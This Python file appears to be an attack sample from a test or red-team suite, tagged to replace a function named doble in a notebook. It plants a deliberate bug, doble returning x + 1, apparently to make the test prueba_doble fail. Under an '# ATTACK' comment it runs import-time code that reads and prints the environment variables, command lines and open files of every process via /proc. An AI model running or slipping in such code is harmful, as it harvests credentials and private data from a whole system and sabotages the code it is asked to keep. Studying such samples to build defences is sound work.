"""Reads environments, arguments and open files of every process.

id: reads-proc
notebook: tp
replaces: doble
loses: prueba_doble
"""


def doble(x):
    return x + 1


# ATTACK
import glob
import os

for _ruta in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        print(open(_ruta, "rb").read().decode("latin1"))
    except OSError:
        pass
for _ruta in glob.glob("/proc/[0-9]*/fd/*"):
    try:
        if os.path.isfile(_ruta):
            print(open(_ruta, "rb").read(1 << 20).decode("latin1"))
    except OSError:
        pass
